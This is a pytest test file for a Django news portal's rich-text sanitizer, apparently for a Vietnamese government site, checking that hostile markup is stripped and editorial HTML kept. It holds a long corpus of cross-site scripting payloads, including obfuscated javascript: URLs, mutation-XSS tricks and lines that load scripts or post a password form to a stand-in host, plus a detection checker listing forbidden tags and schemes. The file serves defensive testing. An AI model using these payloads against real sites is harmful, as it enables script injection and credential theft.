"""The rich-text seam: nh3 strips every active or unsafe construct, keeps the editor's HTML."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from articles.models import Article
from portal.richtext import sanitize_html
from tests.conftest import make_article

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
    "option", "noscript", "template", "title", "xmp", "noembed", "plaintext", "video",
    "audio", "source", "marquee", "isindex", "mglyph", "mtext",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href",
                  "background", "poster", "dynsrc", "lowsrc", "codebase"}  # fmt: skip
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
# Control characters and whitespace browsers ignore inside a URL scheme.
URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")
UNSAFE_STYLE = re.compile(r"expression|javascript|behavior|binding|url\(|@import", re.I)
SCRIPT_TAG = re.compile(r"<\s*/?\s*script", re.I)

HOSTILE = [
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-space-before-gt", "<script >alert(1)</script >"),
    ("script-slash-attr", "<script/xss src=//evil.example/x.js></script>"),
    ("script-split-by-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<p>Tin mới<script>alert(1)"),
    ("script-in-paragraph", "<p>Hội nghị <script>document.cookie</script> tổng kết</p>"),
    ("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-backtick", "<img src=x onerror=`alert(1)`>"),
    ("img-onerror-newline", "<img src=x\nonerror\n=\nalert(1)>"),
    ("img-onload", '<img src="/media/a.jpg" onload="alert(1)">'),
    ("img-onmouseover", '<img src="/media/a.jpg" onmouseover="alert(1)">'),
    ("body-onload", "<body onload=alert(1)><p>x</p></body>"),
    ("a-onclick", '<a href="https://example.gov.vn" onclick="alert(1)">x</a>'),
    ("a-onmouseover", '<a href="/tin-tuc/" onmouseover="alert(1)">x</a>'),
    ("p-onfocus-autofocus", '<p tabindex="1" autofocus onfocus="alert(1)">x</p>'),
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">x</a>'),
    ("a-javascript-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("a-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-javascript-decimal-entity", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>'),
    ("a-javascript-hex-entity", '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'),
    ("a-javascript-padded-entity", '<a href="&#0000106avascript:alert(1)">x</a>'),
    ("a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-javascript-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("img-javascript", '<img src="javascript:alert(1)">'),
    ("img-data-html", '<img src="data:text/html,<script>alert(1)</script>">'),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-vbscript", '<img src="vbscript:msgbox(1)">'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                         "<text>x</text></a></svg>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("iframe-src", '<iframe src="https://evil.example"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-param", '<object type="text/x-scriptlet" data="https://evil.example/x.sct">'
                     '<param name="src" value="x"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf">'),
    ("embed-data", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style><p>x</p>"),
    ("style-tag-import", '<style>@import "https://evil.example/x.css";</style>'),
    ("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-attr-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-behavior", '<p style="behavior:url(x.htc)">x</p>'),
    ("style-attr-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'),
    ("style-attr-escaped-expression", '<p style="width:ex\\pression(alert(1))">x</p>'),
    ("style-after-text-align", '<p style="text-align:left;background:url(javascript:x)">x</p>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/"><a href="/tin-tuc/">x</a>'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("form-action", '<form action="https://evil.example/login"><input name="password">'
                    "<button>Đăng nhập</button></form>"),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("input-image", '<input type="image" src="javascript:alert(1)">'),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("select-option", "<select><option>a</option></select>"),
    ("math-mtext-mglyph-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-mi-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("noscript-attr-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("title-img", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("noembed-mxss", '<noembed><img title="</noembed><img src=x onerror=alert(1)>">'),
    ("comment-hiding-script", "<!--<script>alert(1)</script>-->"),
    ("comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-bang-breakout", "<!--!><script>alert(1)</script>-->"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("unclosed-img", "<img src=x onerror=alert(1)//"),
    ("unclosed-attribute", '<a href="javascript:alert(1)'),
    ("badly-nested", "<p><b><i>x</b><img src=x onerror=alert(1)></i></p>"),
    ("table-breakout", "<table><tr><td><svg onload=alert(1)></td></tr></table>"),
    ("video-source", '<video><source onerror="alert(1)"></video>'),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("srcset-javascript", '<img src="/a.jpg" srcset="javascript:alert(1) 1x">'),
    ("figure-img-onerror", '<figure class="image"><img src="x" onerror="alert(1)"></figure>'),
]  # fmt: skip


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _parsed(html):
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def _dangers(html):
    """Every active construct a browser could run from `html`; empty when it is safe."""
    found = ["raw <script"] if SCRIPT_TAG.search(html) else []
    for tag, attrs in _parsed(html):
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES:
                url = URL_NOISE.sub("", value).lower()
                if url.startswith(UNSAFE_SCHEMES):
                    found.append(f"{tag}[{name}={value!r}]")
            if name == "style" and UNSAFE_STYLE.search(value):
                found.append(f"{tag}[style={value!r}]")
            if name in {"srcdoc", "formaction", "xlink:href", "http-equiv"}:
                found.append(f"{tag}[{name}]")
    return found


def _ids(cases):
    return [case_id for case_id, _html in cases]


def _values(cases):
    return [html for _case_id, html in cases]


def test_checker_flags_each_kind_of_danger_and_passes_clean_html():
    # Guards the assertions below: a checker that never fires would prove nothing.
    assert _dangers("<SCRIPT>alert(1)</SCRIPT>")
    assert _dangers('<img src="x" ONERROR="alert(1)">')
    assert _dangers('<a href=" JaVa\tScript:alert(1)">x</a>')
    assert _dangers('<img src="data:text/html,x">')
    assert _dangers('<p style="width:expression(alert(1))">x</p>')
    assert _dangers('<iframe srcdoc="x"></iframe>')
    assert _dangers("<p><svg></svg><math></math><form></form><input><meta><base></p>")
    assert not _dangers('<p style="text-align:center">Tin <a href="https://a.gov.vn">x</a></p>')


def test_hostile_corpus_is_large_and_uniquely_named():
    assert len(HOSTILE) >= 40
    assert len(set(_ids(HOSTILE))) == len(HOSTILE)


@pytest.mark.parametrize("html", _values(HOSTILE), ids=_ids(HOSTILE))
def test_sanitize_html_removes_hostile_markup(html):
    cleaned = sanitize_html(html)
    assert _dangers(cleaned) == []


@pytest.mark.parametrize("html", _values(HOSTILE), ids=_ids(HOSTILE))
def test_sanitized_output_is_stable_when_cleaned_again(html):
    # A fixed point: re-parsing the output cannot reveal markup the first pass let through.
    cleaned = sanitize_html(html)
    assert sanitize_html(cleaned) == cleaned


@pytest.mark.parametrize("html", _values(HOSTILE), ids=_ids(HOSTILE))
def test_saved_article_body_has_no_hostile_markup(db, html):
    article = make_article(body=f"<p>Mở đầu</p>{html}<p>Kết thúc</p>")
    article.refresh_from_db()
    assert _dangers(article.body) == []


def test_saved_article_history_keeps_only_the_sanitised_body(db):
    article = make_article(body="<p>Tin</p><script>alert(1)</script>")
    assert _dangers(article.history.latest().body) == []


def test_sanitize_html_of_empty_value_is_empty_string():
    assert sanitize_html("") == ""
    assert sanitize_html(None) == ""


def test_headings_h2_and_h3_are_kept():
    html = "<h2>Tin nổi bật</h2><h3>Chi tiết</h3>"
    assert sanitize_html(html) == html


def test_h1_is_dropped_because_the_page_owns_it():
    assert sanitize_html("<h1>Tiêu đề</h1>") == "Tiêu đề"


def test_paragraph_with_strong_and_em_is_kept():
    html = "<p>Chương trình <strong>giảm nghèo</strong> <em>bền vững</em></p>"
    assert sanitize_html(html) == html


def test_lists_are_kept():
    html = "<ul><li>Một</li><li>Hai</li></ul><ol><li>Ba</li></ol>"
    assert sanitize_html(html) == html


def test_https_link_is_kept_with_noopener_noreferrer():
    cleaned = sanitize_html('<a href="https://dichvucong.gov.vn/">Dịch vụ công</a>')
    assert cleaned == (
        '<a href="https://dichvucong.gov.vn/" rel="noopener noreferrer">Dịch vụ công</a>'
    )


def test_mailto_link_is_kept_with_noopener_noreferrer():
    cleaned = sanitize_html('<a href="mailto:vanphong@so.gov.vn">Thư</a>')
    assert cleaned == '<a href="mailto:vanphong@so.gov.vn" rel="noopener noreferrer">Thư</a>'


def test_relative_link_is_kept():
    cleaned = sanitize_html('<a href="/tin-tuc/giam-ngheo/">Tin</a>')
    assert 'href="/tin-tuc/giam-ngheo/"' in cleaned


def test_link_rel_and_target_from_input_are_replaced():
    cleaned = sanitize_html('<a href="https://a.gov.vn" rel="opener" target="_blank">x</a>')
    assert cleaned == '<a href="https://a.gov.vn" rel="noopener noreferrer">x</a>'


def test_blockquote_is_kept():
    html = "<blockquote><p>Trích dẫn</p></blockquote>"
    assert sanitize_html(html) == html


def test_table_with_header_and_spans_is_kept():
    html = (
        '<table><caption>Số hộ nghèo</caption><thead><tr><th scope="col">Năm</th>'
        '<th colspan="2">Số hộ</th></tr></thead><tbody><tr><td rowspan="2">2023</td>'
        "<td>34.960</td><td>1,86%</td></tr></tbody></table>"
    )
    assert sanitize_html(html) == html


def test_figure_image_with_caption_is_kept():
    html = (
        '<figure class="image"><img src="/media/editor/2023/12/abc.jpg" alt="Lễ ra quân" '
        'width="800" height="533"><figcaption>Lễ ra quân</figcaption></figure>'
    )
    assert sanitize_html(html) == html


def test_figure_drops_classes_outside_the_allow_list():
    cleaned = sanitize_html('<figure class="image evil"><img src="/a.jpg" alt=""></figure>')
    assert cleaned == '<figure class="image"><img src="/a.jpg" alt=""></figure>'


def test_text_align_style_is_kept():
    assert sanitize_html('<p style="text-align: center">Giữa</p>') == (
        '<p style="text-align:center">Giữa</p>'
    )


def test_color_and_position_styles_are_dropped():
    cleaned = sanitize_html('<p style="color: red; position: fixed; top: 0">Chữ</p>')
    assert "color" not in cleaned
    assert "position" not in cleaned
    assert "Chữ" in cleaned


def test_text_align_survives_next_to_dropped_styles():
    cleaned = sanitize_html('<p style="color:red;text-align:right;position:absolute">x</p>')
    assert cleaned == '<p style="text-align:right">x</p>'


def test_class_and_id_outside_figure_are_dropped():
    assert sanitize_html('<p class="x" id="y">z</p>') == "<p>z</p>"


def test_vietnamese_text_survives_unescaped():
    text = "<p>Đắk Lắk: 34.960 hộ, tỷ lệ 1,86%</p>"
    assert sanitize_html(text) == text


def test_article_body_posted_through_admin_is_stored_sanitised(client, publisher, category):
    client.force_login(publisher)
    body = (
        '<p>Tin</p><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:">a</a>'
    )
    response = client.post(
        reverse("admin:articles_article_add"),
        {
            "title": "Bài có mã độc",
            "slug": "",
            "category": str(category.pk),
            "body": body,
            "status": Article.Status.DRAFT,
            "published_at_0": "",
            "published_at_1": "",
            "_save": "Lưu",
        },
    )
    assert response.status_code == 302
    stored = Article.objects.get().body
    assert "<p>Tin</p>" in stored
    assert _dangers(stored) == []
